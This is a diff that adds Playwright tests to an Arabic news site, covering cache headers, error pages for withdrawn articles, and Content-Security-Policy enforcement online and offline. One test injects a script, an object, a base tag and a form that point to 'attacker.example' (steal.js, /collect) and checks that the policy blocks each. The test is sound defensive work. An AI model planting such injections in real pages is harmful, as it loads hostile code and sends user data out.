@@ -1,5 +1,33 @@
+import type { Page } from "@playwright/test";
 import { expect, test } from "./support/fixtures";
-import { PUBLISH_TOKEN } from "./support/server";
+import { AppServer, PUBLISH_TOKEN } from "./support/server";
+import { waitForWorker } from "./support/worker";
+
+const SEED_URL = "/articles/khitam-ahd-al-nizam-al-bayed";
+const PAGES = ["/", SEED_URL, "/search", "/saved", "/settings", "/offline"];
+
+interface Violation {
+  directive: string;
+  blocked: string;
+}
+
+/** Collects every CSP violation and console error the page reports, from before its first script. */
+async function watchPolicy(page: Page): Promise<{ violations: () => Promise<Violation[]>; consoleErrors: string[] }> {
+  const consoleErrors: string[] = [];
+  page.on("console", (message) => {
+    if (message.type() === "error") consoleErrors.push(message.text());
+  });
+  page.on("pageerror", (error) => consoleErrors.push(error.message));
+  await page.addInitScript(() => {
+    const seen: { directive: string; blocked: string }[] = [];
+    (window as unknown as { __violations: typeof seen }).__violations = seen;
+    document.addEventListener("securitypolicyviolation", (e) => seen.push({ directive: e.effectiveDirective, blocked: e.blockedURI }));
+  });
+  return {
+    consoleErrors,
+    violations: () => page.evaluate(() => (window as unknown as { __violations: Violation[] }).__violations),
+  };
+}
 
 test("a path that is no slug answers 404 in Arabic, and a malformed API id 400, never a stack trace", async ({ server }) => {
   for (const path of ["/articles/%25", "/articles/%E0%A4%A", "/articles/a%2Fb", "/articles/Capital-Letters", "/articles/%D8%AE%D8%A8%D8%B1"]) {
@@ -20,4 +48,133 @@ test("a path that is no slug answers 404 in Arabic, and a malformed API id 400, 
     expect(body.error, method).toMatch(/[\u0600-\u06FF]/);
   }
   expect(server.output()).not.toMatch(/URIError|URI malformed/);
+});
+
+test("pages tell browsers to revalidate every time and shared caches to keep them briefly; a revalidation costs a 304", async ({ server }) => {
+  for (const path of PAGES) {
+    const res = await fetch(`${server.url}${path}`);
+    expect(res.status, path).toBe(200);
+    expect(res.headers.get("cache-control"), path).toBe("public, max-age=0, must-revalidate, s-maxage=15");
+    expect(res.headers.get("cdn-cache-control"), path).toBe("max-age=15, stale-while-revalidate=15");
+    const etag = res.headers.get("etag");
+    expect(etag, path).toBeTruthy();
+    // As a browser revalidates (fetch would add "no-cache" to a conditional request, which forbids a 304).
+    const again = await fetch(`${server.url}${path}`, { headers: { "If-None-Match": etag!, "Cache-Control": "max-age=0" } });
+    expect(again.status, path).toBe(304);
+    expect(again.headers.get("cache-control"), path).toBe("public, max-age=0, must-revalidate, s-maxage=15");
+  }
+  // Every response carries the policies, the API's too.
+  for (const path of [...PAGES, "/api/push/key", "/manifest.webmanifest"]) {
+    const res = await fetch(`${server.url}${path}`);
+    const csp = res.headers.get("content-security-policy") ?? "";
+    expect(csp, path).toContain("object-src 'none'");
+    expect(csp, path).toContain("base-uri 'none'");
+    expect(csp, path).toContain("form-action 'self'");
+    expect(csp, path).toContain("frame-ancestors 'none'");
+    expect(csp, path).toMatch(/script-src 'self'[^;]*;/);
+    expect(res.headers.get("permissions-policy"), path).toContain("camera=()");
+  }
+});
+
+test("a publish shows on the very next navigation to the home page in the same browser", async ({ server, page }) => {
+  await page.goto("/");
+  await waitForWorker(page);
+  // Twice, so the home page is in the browser's HTTP cache and the worker controls the navigation.
+  await page.goto("/");
+  const title = `مقال تجريبي للتنقل التالي ${Date.now()}`;
+  await server.publish({ title, body: "نص تجريبي للتنقل التالي." });
+  const res = await page.goto("/");
+  expect(res?.status()).toBe(200);
+  // The document itself, not a notice the page adds later.
+  expect((await res?.text())?.includes(title), "the new article is in the served document").toBe(true);
+  await expect(page.locator("main").getByRole("link", { name: title })).toBeVisible();
+});
+
+test("a withdrawn article answers 410 Gone with an Arabic page, and its slug stays taken", async ({ server, page }) => {
+  const { id, url, slug } = await server.publish({ title: "مقال تجريبي للسحب والإجابة 410", body: "نص تجريبي للسحب." });
+  expect((await fetch(`${server.url}${url}`)).status).toBe(200);
+  await server.withdraw(id);
+
+  const res = await fetch(`${server.url}${url}`);
+  expect(res.status).toBe(410);
+  expect(res.headers.get("content-type")).toBe("text/html; charset=utf-8");
+  expect(res.headers.get("cache-control")).toBe("public, max-age=0, must-revalidate, s-maxage=15");
+  const html = await res.text();
+  expect(html).toContain("سُحب هذا المقال");
+  expect(html).not.toContain("مقال تجريبي للسحب والإجابة 410");
+  const head = await fetch(`${server.url}${url}`, { method: "HEAD" });
+  expect(head.status).toBe(410);
+
+  const policy = await watchPolicy(page);
+  const shown = await page.goto(url);
+  expect(shown?.status()).toBe(410);
+  await expect(page.getByRole("heading", { level: 1 })).toHaveText("سُحب هذا المقال");
+  await expect(page.getByRole("link", { name: "العودة إلى آخر الأخبار" })).toHaveAttribute("href", "/");
+  // Its one style applies under its own policy.
+  expect(await page.evaluate(() => getComputedStyle(document.querySelector("main")!).textAlign)).toBe("center");
+  expect(await policy.violations()).toEqual([]);
+
+  const again = await fetch(`${server.url}/api/articles`, {
+    method: "POST",
+    headers: { "Content-Type": "application/json", Authorization: `Bearer ${PUBLISH_TOKEN}` },
+    body: JSON.stringify({ title: "مقال تجريبي آخر", body: "نص", slug }),
+  });
+  expect(again.status).toBe(409);
+});
+
+test("no page breaks its policy, online or offline, and the policy stops injected scripts, plugins, <base> and forms", async ({ page }) => {
+  const server = await new AppServer().start();
+  try {
+    const policy = await watchPolicy(page);
+    await page.goto(`${server.url}/`);
+    await waitForWorker(page);
+    // The theme boot script must run offline too: the worker's policy allows it by hash.
+    await page.evaluate(() => localStorage.setItem("akhbar:theme", "dark"));
+    for (const path of ["/", SEED_URL, "/search?q=دمشق", "/saved", "/settings"]) {
+      const res = await page.goto(`${server.url}${path}`);
+      expect(res?.status(), path).toBe(200);
+      expect(res?.headers()["content-security-policy"], path).toContain("object-src 'none'");
+      await expect(page.locator("html"), path).toHaveAttribute("data-theme", "dark");
+      expect(await policy.violations(), path).toEqual([]);
+    }
+    expect(await page.evaluate(async () => (await navigator.serviceWorker.getRegistration())?.active?.state)).toBe("activated");
+    expect(policy.consoleErrors).toEqual([]);
+
+    // What an injection would try, on a real page: each is refused and reported.
+    await page.goto(`${server.url}${SEED_URL}`);
+    await page.evaluate(() => {
+      const script = document.createElement("script");
+      script.src = "https://attacker.example/steal.js";
+      document.body.append(script);
+      const object = document.createElement("object");
+      object.data = "https://attacker.example/plugin.swf";
+      document.body.append(object);
+      const base = document.createElement("base");
+      base.href = "https://attacker.example/";
+      document.head.prepend(base);
+      const form = document.createElement("form");
+      form.action = "https://attacker.example/collect";
+      form.method = "post";
+      document.body.append(form);
+      form.submit();
+    });
+    await expect
+      .poll(async () => [...new Set((await policy.violations()).map((v) => v.directive))].sort())
+      .toEqual(["base-uri", "form-action", "object-src", "script-src-elem"]);
+    expect(page.url()).toBe(`${server.url}${SEED_URL}`);
+
+    // Offline, the worker's own pages keep a policy, stricter: no inline script but the hashed boot script.
+    await server.stop();
+    for (const path of ["/", SEED_URL, "/articles/never-held", "/saved"]) {
+      const res = await page.goto(`${server.url}${path}`);
+      expect(res?.headers()["content-security-policy"], path).toContain("object-src 'none'");
+      await expect(page.locator("html"), path).toHaveAttribute("data-theme", "dark");
+      expect(await policy.violations(), path).toEqual([]);
+    }
+    const offlinePolicy = (await page.goto(`${server.url}/`))?.headers()["content-security-policy"] ?? "";
+    expect(offlinePolicy).toMatch(/script-src 'self' 'sha256-[A-Za-z0-9+/]+=*';/);
+    expect(offlinePolicy).not.toContain("unsafe-inline");
+  } finally {
+    await server.stop();
+  }
 });
